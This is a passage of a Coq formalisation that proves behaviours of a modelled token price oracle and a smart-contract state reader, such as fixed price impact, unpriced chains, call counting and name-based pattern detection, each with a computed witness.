                  PriceOracleMethods.priceETH :=
                    @PriceOracleMethods.divide (Scenario.arith exact)
                      (PriceOracleMethods.dexPriceUSD price)
                      (@PriceOracleMethods.getNativeTokenPrice (Scenario.arith exact)
                         Number_toString hasProvider nativeFeed chainId blockNumber);
                  PriceOracleMethods.liquidityUSD := PriceOracleMethods.dexLiquidityUSD price;
                  PriceOracleMethods.priceImpact := PriceOracleMethods.dexPriceImpact price;
                  PriceOracleMethods.sources := ["DEX"];
                  PriceOracleMethods.confidence :=
                    if JsNum.gt (PriceOracleMethods.dexLiquidityUSD price) 1000000
                    then 60%Q else 50%Q |}
        else quote = PriceOracleMethods.unpriced
    | Throw _ => quote = PriceOracleMethods.unpriced
    end.
Proof.
  intros exact Number_toString hasProvider tokenFeed dexNativeFeed nativeFeed dex tokenAddress
    chainId blockNumber.
  cbv zeta. unfold PriceOracleMethods.getTokenPrice. rewrite afterChainlink_start.
  destruct (PriceOracleMethods.getTokenPriceFromDEX _ _ _ _ _ _ _) as [ price | message ];
    cbn [PriceOracleMethods.afterDex]; [ | apply conclude_start ].
  rewrite lit_zero.
  destruct (JsNum.gt (PriceOracleMethods.dexPriceUSD price) 0) eqn:Epriced;
    [ | apply conclude_start ].
  unfold PriceOracleMethods.conclude.
  cbn [PriceOracleMethods.p_priceUSD PriceOracleMethods.p_liquidityUSD
       PriceOracleMethods.p_priceImpact PriceOracleMethods.p_sources
       PriceOracleMethods.p_confidence].
  rewrite lit_zero, lit_million.
  change (Qeq_bool 0 0) with true. cbv iota. rewrite Epriced.
  cbn [app List.length Nat.ltb Nat.leb].
  f_equal.
  destruct (JsNum.gt (PriceOracleMethods.dexLiquidityUSD price) 1000000);
    destruct exact; reflexivity.
Qed.

(** X21: the price impact that [getTokenPriceFromDEX] reports says
    nothing of the pool.  It is the hundredth of the liquidity over the
    liquidity: no number when the liquidity is zero, and otherwise a
    number between 0 and 0.05 (one hundredth, in exact arithmetic), so
    that the cap at 0.1 is never reached and the test [priceImpact > 0.05]
    of the normaliser never holds. *)
Theorem X21_the_price_impact_is_one_hundredth :
  forall (exact : bool) (Number_toString : Q -> string) (hasProvider : Z -> bool)
         (dex : PriceOracleMethods.Dex)
         (nativeFeed : string -> option string -> Result Z)
         (tokenAddress : string) (chainId : Z) (blockNumber : option string)
         (price : PriceOracleMethods.DexPrice),
    @PriceOracleMethods.getTokenPriceFromDEX (Scenario.arith exact) Number_toString
      hasProvider dex nativeFeed tokenAddress chainId blockNumber = Ok price ->
    match PriceOracleMethods.dexPriceImpact price with
    | PriceOracleMethods.NotFinite => (PriceOracleMethods.dexLiquidityUSD price == 0)%Q
    | PriceOracleMethods.Finite impact =>
        (~ PriceOracleMethods.dexLiquidityUSD price == 0
         /\ 0 <= impact /\ impact < 5 # 100
         /\ impact < @JsNum.lit (Scenario.arith exact) (1 # 10)
         /\ JsNum.gt impact (@JsNum.lit (Scenario.arith exact) (5 # 100)) = false
         /\ (exact = true -> impact == 1 # 100))%Q
    end.
Proof.
  intros exact Number_toString hasProvider dex nativeFeed tokenAddress chainId blockNumber
    price H.
  unfold PriceOracleMethods.getTokenPriceFromDEX, bind in H.
  repeat match type of H with
         | match ?x with _ => _ end = _ => destruct x; try discriminate H
         | (if ?x then _ else _) = _ => destruct x; try discriminate H
         end.
  injection H as <-.
  cbn [PriceOracleMethods.dexPriceImpact PriceOracleMethods.dexLiquidityUSD].
  match goal with
  | |- context [PriceOracleMethods.divide (JsNum.mul ?amount _) _] =>
      set (liquidity := amount)
  end.
  unfold PriceOracleMethods.divide.
  destruct (Qeq_bool liquidity 0) eqn:E.
  - apply Qeq_bool_iff. exact E.
  - assert (Hne : ~ (liquidity == 0)%Q).
    { intros Hz. apply Qeq_bool_iff in Hz. congruence. }
    destruct (ratio_bounds exact liquidity Hne) as [Hlo Hhi].
    destruct (lit_cent exact) as [_ [H5 [Hl5 Hl10]]].
    set (ratio := JsNum.div (JsNum.mul liquidity (JsNum.lit (1 # 100))) liquidity) in *.
    assert (Hmin : JsNum.Math_min ratio (@JsNum.lit (Scenario.arith exact) (1 # 10)) = ratio).
    { unfold JsNum.Math_min.
      replace (Qle_bool ratio (JsNum.lit (1 # 10))) with true; [ reflexivity | ].
      symmetry. apply Qle_bool_iff. lra. }
    rewrite Hmin. repeat split; try lra; try exact Hne.
    + unfold JsNum.gt. apply negb_false_iff, Qle_bool_iff. lra.
    + intros Hexact. apply ratio_exact; assumption.
Qed.

(** X21 applies: a pool of 1000 wrapped ether against 3 million tokens,
    with ether at 3000 dollars, in doubles. *)
Lemma X21_the_price_impact_witness :
  exists price impact,
    @PriceOracleMethods.getTokenPriceFromDEX JsNum.Binary64 Scenario.printNumber
      (fun _ => true)
      (PriceOracleMethods.pool (1000 * 10 ^ 18) (3000000 * 10 ^ 18)
         "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2" 332000000000000)
      (PriceOracleMethods.steady 300000000000)
      "0x6B175474E89094C44Da98b954EedeAC495271d0F" 1 None = Ok price
    /\ PriceOracleMethods.dexPriceImpact price = PriceOracleMethods.Finite impact
    /\ (impact < 5 # 100)%Q.
Proof.
  eexists. eexists.
  match goal with
  | |- ?call = Ok ?price /\ _ =>
      assert (H : call = Ok price) by (vm_compute; reflexivity)
  end.
  split; [ exact H | ]. split; [ reflexivity | ].
  pose proof (X21_the_price_impact_is_one_hundredth false _ _ _ _ _ _ _ _ H) as Himpact.
  exact (proj1 (proj2 (proj2 Himpact))).
Defined.

(** X22: on a chain other than 1, 56 and 137, or on a chain without a
    provider, every token is quoted at zero without a source and with the
    confidence 0, whatever the contracts answer. *)
Theorem X22_other_chains_are_unpriced :
  forall (exact : bool) (Number_toString : Q -> string) (hasProvider : Z -> bool)
         (tokenFeed dexNativeFeed nativeFeed : string -> option string -> Result Z)
         (dex : PriceOracleMethods.Dex) (tokenAddress : string) (chainId : Z)
         (blockNumber : option string),
    ((chainId =? 1) || (chainId =? 56) || (chainId =? 137))%Z && hasProvider chainId = false ->
    @PriceOracleMethods.getTokenPrice (Scenario.arith exact) Number_toString hasProvider
      tokenFeed dexNativeFeed nativeFeed dex tokenAddress chainId blockNumber
    = PriceOracleMethods.unpriced.
Proof.
  intros exact Number_toString hasProvider tokenFeed dexNativeFeed nativeFeed dex tokenAddress
    chainId blockNumber H.
  unfold PriceOracleMethods.getTokenPrice. rewrite afterChainlink_start.
  assert (Hdex : exists message,
             @PriceOracleMethods.getTokenPriceFromDEX (Scenario.arith exact) Number_toString
               hasProvider dex dexNativeFeed tokenAddress chainId blockNumber
             = Throw message).
  { unfold PriceOracleMethods.getTokenPriceFromDEX, PriceOracleMethods.dexRouters,
      PriceOracleMethods.getProvider.
    destruct (chainId =? 1)%Z; [ | destruct (chainId =? 56)%Z;
                                   [ | destruct (chainId =? 137)%Z ] ];
      cbn [orb andb] in H; try rewrite H; cbn [bind]; eauto. }
  destruct Hdex as [message ->]. apply conclude_start.
Qed.

(** X22 applies: chain 42161, which has a provider. *)
Lemma X22_other_chains_witness :
  @PriceOracleMethods.getTokenPrice JsNum.Binary64 Scenario.printNumber (fun _ => true)
    (PriceOracleMethods.steady 100000000) (PriceOracleMethods.steady 300000000000)
    (PriceOracleMethods.steady 300000000000)
    (PriceOracleMethods.pool (1000 * 10 ^ 18) (3000000 * 10 ^ 18)
       "0x82aF49447D8a07e3bd95BD0d56f35241523fBab1" 332000000000000)
    "0xFd086bC7CD5C481DCC9C85ebE478A1C0b69FCbb9" 42161 None
  = PriceOracleMethods.unpriced.
Proof. apply (X22_other_chains_are_unpriced false). reflexivity. Defined.

(* ================================================================== *)
(** ** The state reader *)
(* ================================================================== *)

Section Stores.

Import StateReader.

Context {V : Type}.

Lemma replace_keys (key : string) (value : V) (object : Store V) :
  ownKeys (replace key value object) = ownKeys object.
Proof.
  unfold ownKeys. induction object as [ | [k v] object IH ]; [ reflexivity | ].
  cbn [replace]. destruct (String.eqb k key); cbn [map fst]; [ reflexivity | ].
  f_equal. exact IH.
Qed.

(** The keys after an assignment: as they were, or with the key added
    at the end. *)
Lemma assign_keys (key : string) (value : V) (object : Store V) :
  ownKeys (assign key value object)
  = if String.eqb key "__proto__" || existsb (String.eqb key) (ownKeys object)
    then ownKeys object
    else (ownKeys object ++ [key])%list.
Proof.
  unfold assign. destruct (String.eqb key "__proto__"); [ reflexivity | ].
  cbn [orb]. destruct (existsb (String.eqb key) (ownKeys object)).
  - apply replace_keys.
  - unfold ownKeys. rewrite map_app. reflexivity.
Qed.

Lemma existsb_key (key : string) (keys : list string) :
  existsb (String.eqb key) keys = true <-> In key keys.
Proof.
  rewrite existsb_exists. split.
  - intros [k [Hin Heq]]. apply String.eqb_eq in Heq. subst k. exact Hin.
  - intros Hin. exists key. split; [ exact Hin | apply String.eqb_refl ].
Qed.

Lemma assign_subset (key : string) (value : V) (object : Store V) (k : string) :
  In k (ownKeys (assign key value object)) ->
  In k (ownKeys object) \/ (k = key /\ key <> "__proto__").
Proof.
  rewrite assign_keys. destruct (String.eqb key "__proto__") eqn:E; cbn [orb]; [ tauto | ].
  destruct (existsb (String.eqb key) (ownKeys object)); [ tauto | ].
  rewrite in_app_iff. cbn [In]. intros [H | [H | []]]; [ tauto | ].
  right. split; [ auto | ]. intros Hp. rewrite Hp in E. discriminate E.
Qed.

Lemma assign_kept (key : string) (value : V) (object : Store V) (k : string) :
  In k (ownKeys object) -> In k (ownKeys (assign key value object)).
Proof.
  rewrite assign_keys.
  destruct (String.eqb key "__proto__" || existsb (String.eqb key) (ownKeys object));
    [ tauto | ].
  rewrite in_app_iff. tauto.
Qed.

Lemma assign_length (key : string) (value : V) (object : Store V) :
  (List.length (ownKeys (assign key value object)) <= S (List.length (ownKeys object)))%nat.
Proof.
  rewrite assign_keys.
  destruct (String.eqb key "__proto__" || existsb (String.eqb key) (ownKeys object));
    [ lia | ].
  rewrite length_app. cbn [List.length]. lia.
Qed.

Lemma assign_fresh (key : string) (value : V) (object : Store V) :
  key <> "__proto__" -> ~ In key (ownKeys object) ->
  List.length (ownKeys (assign key value object)) = S (List.length (ownKeys object)).
Proof.
  intros Hp Hfresh. rewrite assign_keys.
  destruct (String.eqb key "__proto__") eqn:E; [ apply String.eqb_eq in E; contradiction | ].
  destruct (existsb (String.eqb key) (ownKeys object)) eqn:Ex;
    [ apply existsb_key in Ex; contradiction | ].
  cbn [orb]. rewrite length_app. cbn [List.length]. lia.
Qed.

End Stores.

Section Readings.

Import StateReader.

Variable contractCall : nat -> Call.

Lemma settle_cases (reading : Reading) (funcName : string) (call : Call) :
  exists value text,
    settle reading funcName call
    = if succeeded call
      then {| stateData := assign funcName value (stateData reading);
              errors := errors reading |}
      else {| stateData := stateData reading;
              errors := assign funcName text (errors reading) |}.
Proof.
  destruct call as [ result | [ text | ] | message ]; cbn [settle succeeded].
  - exists result, EmptyString. reflexivity.
  - exists JUndefined, text. destruct (truthyMessage (Some text)); reflexivity.
  - exists JUndefined, EmptyString. reflexivity.
  - eexists JUndefined, _. reflexivity.
Qed.

(** The loop over the chunks calls every view function, in order. *)
Lemma settleChunk_app (start : nat) (funcs funcs' : list AbiItem) (reading : Reading) :
  settleChunk contractCall start (funcs ++ funcs') reading
  = settleChunk contractCall (start + List.length funcs) funcs'
      (settleChunk contractCall start funcs reading).
Proof.
  revert start reading. induction funcs as [ | func funcs IH ]; intros start reading.
  - cbn [app settleChunk List.length]. rewrite Nat.add_0_r. reflexivity.
  - cbn [app settleChunk List.length]. rewrite IH. f_equal. lia.
Qed.

Lemma chunksFrom_all (fuel i : nat) (views : list AbiItem) (reading : Reading) :
  (List.length views - i <= fuel)%nat ->
  chunksFrom contractCall fuel i views reading
  = settleChunk contractCall i (skipn i views) reading.
Proof.
  revert i reading. induction fuel as [ | fuel IH ]; intros i reading Hfuel.
  - cbn [chunksFrom]. rewrite skipn_all2 by lia. reflexivity.
  - cbn [chunksFrom]. destruct (i <? List.length views)%nat eqn:E.
    + apply Nat.ltb_lt in E. rewrite IH by (unfold chunkSize; lia).
      rewrite <- (firstn_skipn chunkSize (skipn i views)) at 2.
      rewrite settleChunk_app, skipn_skipn, (Nat.add_comm chunkSize i).
      destruct (Nat.le_gt_cases chunkSize (List.length (skipn i views))) as [Hfull | Hshort].
      * rewrite length_firstn, Nat.min_l by exact Hfull. reflexivity.
      * rewrite (skipn_all2 (n := i + chunkSize)) by (rewrite length_skipn in Hshort; lia).
        reflexivity.
    + apply Nat.ltb_ge in E. rewrite skipn_all2 by lia. reflexivity.
Qed.

Lemma callViewFunctions_all (views : list AbiItem) :
  callViewFunctions contractCall views
  = settleChunk contractCall 0 views {| stateData := []; errors := [] |}.
Proof. unfold callViewFunctions. rewrite chunksFrom_all by lia. reflexivity. Qed.

(** Every call gives one key at most, the name of its function. *)
Lemma settleChunk_bound (funcs : list AbiItem) (start : nat) (reading : Reading) :
  let after := settleChunk contractCall start funcs reading in
  (List.length (ownKeys (stateData after)) + List.length (ownKeys (errors after))
   <= List.length (ownKeys (stateData reading)) + List.length (ownKeys (errors reading))
      + List.length funcs)%nat
  /\ (forall key,
         In key (ownKeys (stateData after)) \/ In key (ownKeys (errors after)) ->
         In key (ownKeys (stateData reading)) \/ In key (ownKeys (errors reading))
         \/ (In key (map name funcs) /\ key <> "__proto__")).
Proof.
  revert start reading. induction funcs as [ | func funcs IH ]; intros start reading.
  - cbn [settleChunk List.length map In]. split; [ lia | tauto ].
  - cbn [settleChunk]. cbv zeta.
    destruct (settle_cases reading (name func) (contractCall start)) as [value [text Hs]].
    rewrite Hs. clear Hs.
    destruct (succeeded (contractCall start));
      match goal with
      | |- context [settleChunk _ _ _ ?next] =>
          destruct (IH (S start) next) as [Hlen Hkeys]; cbn [stateData errors] in Hlen, Hkeys
      end.
    + pose proof (assign_length (name func) value (stateData reading)) as Ha.
      split; [ cbn [List.length]; lia | ].
      intros key Hkey. destruct (Hkeys key Hkey) as [H | [H | [H Hp]]].
      * apply assign_subset in H. cbn [map In]. destruct H as [H | [-> Hp]]; tauto.
      * tauto.
      * cbn [map In]. tauto.
    + pose proof (assign_length (name func) text (errors reading)) as Ha.
      split; [ cbn [List.length]; lia | ].
      intros key Hkey. destruct (Hkeys key Hkey) as [H | [H | [H Hp]]].
      * tauto.
      * apply assign_subset in H. cbn [map In]. destruct H as [H | [-> Hp]]; tauto.
      * cbn [map In]. tauto.
Qed.

Lemma successes_step (start count : nat) :
  successes contractCall start (S count)
  = ((if succeeded (contractCall start) then 1 else 0) + successes contractCall (S start) count)%nat.
Proof.
  unfold successes. cbn [seq filter].
  destruct (succeeded (contractCall start)); reflexivity.
Qed.

(** When the names differ, every call gives its key. *)
Lemma settleChunk_distinct (funcs : list AbiItem) (start : nat) (reading : Reading) :
  NoDup (map name funcs) ->
  ~ In "__proto__" (map name funcs) ->
  (forall key, In key (map name funcs) ->
               ~ In key (ownKeys (stateData reading)) /\ ~ In key (ownKeys (errors reading))) ->
  let after := settleChunk contractCall start funcs reading in
  List.length (ownKeys (stateData after))
  = (List.length (ownKeys (stateData reading)) + successes contractCall start (List.length funcs))%nat
  /\ (List.length (ownKeys (errors after))
      = List.length (ownKeys (errors reading))
        + (List.length funcs - successes contractCall start (List.length funcs)))%nat
  /\ (successes contractCall start (List.length funcs) <= List.length funcs)%nat.
Proof.
  revert start reading. induction funcs as [ | func funcs IH ]; intros start reading Hnd Hp Hfresh.
  - cbn [settleChunk List.length]. unfold successes. cbn [seq filter List.length].
    cbv zeta. lia.
  - cbn [map] in Hnd, Hp. apply NoDup_cons_iff in Hnd. destruct Hnd as [Hnew Hnd].
    cbn [In] in Hp.
    assert (Hname : name func <> "__proto__") by (intros H; apply Hp; left; auto).
    destruct (Hfresh (name func) (or_introl eq_refl)) as [Hfs Hfe].
    cbn [settleChunk List.length]. cbv zeta.
    rewrite successes_step.
    destruct (settle_cases reading (name func) (contractCall start)) as [value [text Hs]].
    assert (Hrest : forall key, In key (map name funcs) ->
              ~ In key (ownKeys (stateData (settle reading (name func) (contractCall start))))
              /\ ~ In key (ownKeys (errors (settle reading (name func) (contractCall start))))).
    { intros key Hkey.
      assert (Hne : key <> name func) by (intros ->; contradiction).
      destruct (Hfresh key (or_intror Hkey)) as [Hks Hke].
      rewrite Hs. destruct (succeeded (contractCall start)); cbn [stateData errors];
        split; try assumption; intros H; apply assign_subset in H; tauto. }
    destruct (IH (S start) _ Hnd ltac:(tauto) Hrest) as [Hstate [Herr Hle]].
    rewrite Hstate, Herr. rewrite Hs.
    destruct (succeeded (contractCall start)); cbn [stateData errors List.length].
    + rewrite (assign_fresh _ _ _ Hname Hfs). lia.
    + rewrite (assign_fresh _ _ _ Hname Hfe). lia.
Qed.

End Readings.

Section Views.

Import StateReader.

(** The view functions chosen are items of the ABI without inputs. *)
Lemma viewFunctions_sound (parsedABI views : list AbiItem) :
  viewFunctions parsedABI = Ok views ->
  forall func, In func views -> In func parsedABI /\ inputs func = Some 0%nat.
Proof.
  revert views. induction parsedABI as [ | item items IH ]; intros views H func Hin.
  - cbn [viewFunctions] in H. injection H as <-. destruct Hin.
  - cbn [viewFunctions] in H. unfold bind in H.
    destruct (isViewFunction item) as [ keep | ] eqn:Ekeep; [ | discriminate H ].
    destruct (viewFunctions items) as [ kept | ]; [ | discriminate H ].
    injection H as <-.
    assert (Hkept : In func kept -> In func (item :: items) /\ inputs func = Some 0%nat).
    { intros Hk. destruct (IH kept eq_refl func Hk). split; [ right | ]; assumption. }
    destruct keep; [ | auto ].
    destruct Hin as [<- | Hk]; [ | auto ].
    split; [ left; reflexivity | ].
    unfold isViewFunction in Ekeep.
    destruct (String.eqb (type item) "function" && _); [ | discriminate Ekeep ].
    destruct (inputs item) as [ length | ]; [ | discriminate Ekeep ].
    injection Ekeep as Ekeep. apply Nat.eqb_eq in Ekeep. subst length. reflexivity.
Qed.

Lemma get_absent (key : string) (object : Store JsValue) :
  ~ In key (ownKeys object) -> get key object = JUndefined.
Proof.
  unfold ownKeys. induction object as [ | [k v] object IH ]; intros H; [ reflexivity | ].
  cbn [get]. cbn [map fst In] in H. destruct (String.eqb k key) eqn:E.
  - apply String.eqb_eq in E. tauto.
  - apply IH. tauto.
Qed.

Lemma report_inv (parsedABI : list AbiItem) (contractCall : nat -> Call)
  (getStorage : string -> Result string) (r : Report) :
  report parsedABI contractCall getStorage = Ok r ->
  exists views,
    viewFunctions parsedABI = Ok views
    /\ r_viewFunctions r = map name views
    /\ totalViewFunctions r = List.length views
    /\ r_stateData r = stateData (settleChunk contractCall 0 views {| stateData := []; errors := [] |})
    /\ r_errors r = errors (settleChunk contractCall 0 views {| stateData := []; errors := [] |})
    /\ successfulCalls r = List.length (ownKeys (r_stateData r))
    /\ failedCalls r = List.length (ownKeys (r_errors r))
    /\ r_patterns r
       = analyzeStatePatterns (r_stateData r) (readCriticalStorageSlots getStorage).
Proof.
  unfold report, bind. destruct (viewFunctions parsedABI) as [ views | ]; [ | discriminate ].
  intros H. injection H as <-. exists views. rewrite callViewFunctions_all.
  cbn [r_viewFunctions totalViewFunctions r_stateData r_errors successfulCalls failedCalls
       r_patterns].
  repeat split; reflexivity.
Qed.

(** A key that ends with a word includes the word. *)
Lemma startsWith_includes (w s : list ascii) :
  Text.startsWith w s = true -> Regex.includesFrom w s = true.
Proof. intros H. rewrite includesFrom_step, H. reflexivity. Qed.

Lemma includesFrom_tail (a : ascii) (w s : list ascii) :
  Regex.includesFrom (a :: w) s = true -> Regex.includesFrom w s = true.
Proof.
  induction s as [ | b s IH ]; rewrite includesFrom_step.
  - cbn [Text.startsWith orb]. discriminate.
  - cbn [Text.startsWith]. intros H. apply orb_true_iff in H.
    rewrite (includesFrom_step w (b :: s)). apply orb_true_iff. right.
    destruct H as [H | H]; [ | auto ].
    apply andb_true_iff in H. apply startsWith_includes. tauto.
Qed.

Lemma includes_longer (text : string) (a : ascii) (w : string) :
  Regex.includes text (String a w) = true -> Regex.includes text w = true.
Proof. unfold Regex.includes. cbn [list_ascii_of_string]. apply includesFrom_tail. Qed.

Lemma orb_absorb (b c : bool) : (c = true -> b = true) -> b || c = b.
Proof. destruct b, c; intros H; try reflexivity. discriminate (H eq_refl). Qed.

(** The items kept are functions, view or pure. *)
Lemma viewFunctions_kind (parsedABI views : list AbiItem) :
  viewFunctions parsedABI = Ok views ->
  forall func,
    In func views ->
    type func = "function" /\ (stateMutability func = "view" \/ stateMutability func = "pure").
Proof.
  revert views. induction parsedABI as [ | item items IH ]; intros views H func Hin.
  - cbn [viewFunctions] in H. injection H as <-. destruct Hin.
  - cbn [viewFunctions] in H. unfold bind in H.
    destruct (isViewFunction item) as [ keep | ] eqn:Ekeep; [ | discriminate H ].
    destruct (viewFunctions items) as [ kept | ]; [ | discriminate H ].
    injection H as <-.
    destruct keep; [ | exact (IH kept eq_refl func Hin) ].
    destruct Hin as [<- | Hk]; [ | exact (IH kept eq_refl func Hk) ].
    unfold isViewFunction in Ekeep.
    destruct (String.eqb (type item) "function") eqn:Etype;
      [ | cbn [andb] in Ekeep; discriminate Ekeep ].
    apply String.eqb_eq in Etype. split; [ exact Etype | ].
    destruct (String.eqb (stateMutability item) "view") eqn:Eview;
      [ left; apply String.eqb_eq; exact Eview | ].
    destruct (String.eqb (stateMutability item) "pure") eqn:Epure;
      [ right; apply String.eqb_eq; exact Epure | ].
    cbn [andb orb] in Ekeep. discriminate Ekeep.
Qed.

End Views.

(** X23: the counts of the report of the state reader.  Every key of
    [stateData] and of [errors] is the name of an item of the ABI that is
    a function, view or pure, without inputs, and is not [__proto__], and
    the successful and the failed calls together are at most the view
    functions: two functions of one name share their key. *)
Theorem X23_the_calls_are_counted_by_their_names :
  forall (parsedABI : list StateReader.AbiItem) (contractCall : nat -> StateReader.Call)
         (getStorage : string -> Result string) (r : StateReader.Report),
    StateReader.report parsedABI contractCall getStorage = Ok r ->
    (StateReader.successfulCalls r + StateReader.failedCalls r
     <= StateReader.totalViewFunctions r)%nat
    /\ (forall key,
           In key (StateReader.ownKeys (StateReader.r_stateData r))
           \/ In key (StateReader.ownKeys (StateReader.r_errors r)) ->
           key <> "__proto__"
           /\ exists func,
                In func parsedABI /\ StateReader.name func = key
                /\ StateReader.inputs func = Some 0%nat
                /\ StateReader.type func = "function"
                /\ (StateReader.stateMutability func = "view"
                    \/ StateReader.stateMutability func = "pure")).
Proof.
  intros parsedABI contractCall getStorage r H.
  destruct (report_inv _ _ _ _ H) as [views [Hv [_ [Ht [Hs [He [Hsc [Hfc _]]]]]]]].
  destruct (settleChunk_bound contractCall views 0
              {| StateReader.stateData := []; StateReader.errors := [] |}) as [Hlen Hkeys].
  rewrite <- Hs, <- He in Hlen, Hkeys. cbn in Hlen. split; [ lia | ].
  intros key Hkey. destruct (Hkeys key Hkey) as [[] | [[] | [Hin Hp]]].
  split; [ exact Hp | ].
  apply in_map_iff in Hin. destruct Hin as [func [Hname Hin]].
  destruct (viewFunctions_sound _ _ Hv func Hin).
  destruct (viewFunctions_kind _ _ Hv func Hin). exists func. tauto.
Qed.

(** X23 applies: the views of an ERC-20 token, all of which return. *)
Lemma X23_the_calls_witness :
  exists r,
    StateReader.report StateReader.erc20 (fun _ => StateReader.Returned (JStr "1"))
      (fun _ => Throw "timeout") = Ok r
    /\ (StateReader.successfulCalls r + StateReader.failedCalls r
        <= StateReader.totalViewFunctions r)%nat.
Proof.
  eexists.
  match goal with
  | |- ?call = Ok ?r /\ _ => assert (H : call = Ok r) by (vm_compute; reflexivity)
  end.
  split; [ exact H | ].
  exact (proj1 (X23_the_calls_are_counted_by_their_names _ _ _ _ H)).
Defined.

(** X24: when the view functions have different names, none of them
    [__proto__], every one of them is counted once: the failed calls are
    the calls that are not successful, and a call counts as successful
    when the function returned and also when the error caught had no
    message, its value being [undefined] then. *)
Theorem X24_a_failure_without_message_counts_as_success :
  forall (parsedABI : list StateReader.AbiItem) (contractCall : nat -> StateReader.Call)
         (getStorage : string -> Result string) (r : StateReader.Report),
    StateReader.report parsedABI contractCall getStorage = Ok r ->
    NoDup (StateReader.r_viewFunctions r) ->
    ~ In "__proto__" (StateReader.r_viewFunctions r) ->
    StateReader.successfulCalls r
    = StateReader.successes contractCall 0 (StateReader.totalViewFunctions r)
    /\ (StateReader.successfulCalls r + StateReader.failedCalls r
        = StateReader.totalViewFunctions r)%nat.
Proof.
  intros parsedABI contractCall getStorage r H Hnd Hp.
  destruct (report_inv _ _ _ _ H) as [views [_ [Hn [Ht [Hs [He [Hsc [Hfc _]]]]]]]].
  rewrite Hn in Hnd, Hp.
  destruct (settleChunk_distinct contractCall views 0
              {| StateReader.stateData := []; StateReader.errors := [] |} Hnd Hp)
    as [Hstate [Herr Hle]].
  { intros key _. cbn. tauto. }
  rewrite <- Hs in Hstate. rewrite <- He in Herr. cbn in Hstate, Herr.
  rewrite Hsc, Hfc, Ht, Hstate, Herr. lia.
Qed.

(** X24 applies: twelve views in two chunks; the fourth throws an error
    without a message and the twelfth an error with one, which gives
    eleven successful calls and one failed call. *)
Lemma X24_a_failure_without_message_witness :
  exists r,
    StateReader.report StateReader.twelve StateReader.twelveCalls (fun _ => Throw "timeout")
    = Ok r
    /\ StateReader.successfulCalls r = 11%nat
    /\ StateReader.failedCalls r = 1%nat
    /\ get "v3" (StateReader.r_stateData r) = JUndefined.
Proof.
  eexists.
  match goal with
  | |- ?call = Ok ?r /\ _ => assert (H : call = Ok r) by (vm_compute; reflexivity)
  end.
  split; [ exact H | ].
  match type of H with
  | _ = Ok ?r =>
      assert (Hnd : NoDup (StateReader.r_viewFunctions r))
        by (vm_compute; repeat (constructor; [ cbn [In]; intuition discriminate | ]);
            constructor);
      assert (Hp : ~ In "__proto__" (StateReader.r_viewFunctions r))
        by (vm_compute; intuition discriminate)
  end.
  split; [ | split; reflexivity ].
  rewrite (proj1 (X24_a_failure_without_message_counts_as_success _ _ _ _ H Hnd Hp)).
  reflexivity.
Defined.

(** X25: the pattern 'Token contract with balance tracking' is reported
    only of an ABI with a view function [balanceOf] that takes no
    argument: with the [balanceOf] of a token, which takes the holder,
    it is never reported, whatever the contract and its storage answer;
    the only pattern that may be reported then is the one of the
    centralized control. *)
Theorem X25_balance_tracking_is_not_reported_of_a_token :
  forall (parsedABI : list StateReader.AbiItem) (contractCall : nat -> StateReader.Call)
         (getStorage : string -> Result string) (r : StateReader.Report),
    StateReader.report parsedABI contractCall getStorage = Ok r ->
    (forall item, In item parsedABI -> StateReader.name item = "balanceOf" ->
                  StateReader.inputs item <> Some 0%nat) ->
    ~ In "Token contract with balance tracking"
         (StateReader.suspiciousPatterns (StateReader.r_patterns r))
    /\ StateReader.suspiciousPatterns (StateReader.r_patterns r)
       = if StateReader.hasOwnership (StateReader.r_patterns r)
            && StateReader.hasPausability (StateReader.r_patterns r)
         then [ "Centralized control with pause functionality" ]
         else [].
Proof.
  intros parsedABI contractCall getStorage r H Hbalance.
  destruct (report_inv _ _ _ _ H) as [views [Hv [_ [_ [Hs [_ [_ [_ Hpatterns]]]]]]]].
  assert (Habsent : get "balanceOf" (StateReader.r_stateData r) = JUndefined).
  { apply get_absent. intros Hin.
    destruct (settleChunk_bound contractCall views 0
                {| StateReader.stateData := []; StateReader.errors := [] |}) as [_ Hkeys].
    rewrite <- Hs in Hkeys.
    destruct (Hkeys "balanceOf" (or_introl Hin)) as [[] | [[] | [Hname _]]].
    apply in_map_iff in Hname. destruct Hname as [func [Hname Hfunc]].
    destruct (viewFunctions_sound _ _ Hv func Hfunc) as [Hitem Hinputs].
    exact (Hbalance func Hitem Hname Hinputs). }
  rewrite Hpatterns. unfold StateReader.analyzeStatePatterns.
  cbn [StateReader.suspiciousPatterns StateReader.hasOwnership StateReader.hasPausability].
  rewrite Habsent. cbn [truthyValue andb app].
  destruct (StateReader.someKey _ _ && StateReader.someKey _ _); split; try reflexivity.
  - cbn [In]. intros [Heq | []]. discriminate Heq.
  - intros [].
Qed.

(** X25 applies: the ABI of an ERC-20 token, all of whose views return. *)
Lemma X25_balance_tracking_witness :
  exists r,
    StateReader.report StateReader.erc20 (fun _ => StateReader.Returned (JStr "1"))
      (fun _ => Throw "timeout") = Ok r
    /\ StateReader.tokenType (StateReader.r_patterns r) = Some "ERC-20"
    /\ StateReader.suspiciousPatterns (StateReader.r_patterns r) = [].
Proof.
  eexists.
  match goal with
  | |- ?call = Ok ?r /\ _ => assert (H : call = Ok r) by (vm_compute; reflexivity)
  end.
  split; [ exact H | ]. split; [ reflexivity | ].
  rewrite (proj2 (X25_balance_tracking_is_not_reported_of_a_token _ _ _ _ H
                    ltac:(intros item Hin Hname;
                          repeat (destruct Hin as [<- | Hin]; [ discriminate | ]);
                          destruct Hin))).
  reflexivity.
Defined.

(** X26: the patterns that [analyzeStatePatterns] reads off the names.
    [hasPausability] holds exactly when a key of the state includes
    'paused', whatever the case, and [hasOwnership] when a key includes
    'owner', 'admin' or 'governance': the keys '_owner', 'isPaused' and
    '_paused' of the two lists add nothing.  [hasReentrancyGuard] is
    never set, and the centralized control is reported exactly when both
    of the first two hold. *)
Theorem X26_the_patterns_of_the_names :
  forall (stateData : StateReader.Store JsValue) (storageSlots : StateReader.Store string),
    let patterns := StateReader.analyzeStatePatterns stateData storageSlots in
    let named (word : string) :=
      existsb (fun stateKey => Regex.includes (Text.toLowerCase stateKey) word)
        (StateReader.ownKeys stateData) in
    StateReader.hasPausability patterns = named "paused"
    /\ StateReader.hasOwnership patterns
       = named "owner" || named "admin" || named "governance"
    /\ StateReader.hasReentrancyGuard patterns = false
    /\ (In "Centralized control with pause functionality"
          (StateReader.suspiciousPatterns patterns)
        <-> StateReader.hasOwnership patterns && StateReader.hasPausability patterns = true).
Proof.
  intros stateData storageSlots. cbv zeta.
  set (named := fun word : string =>
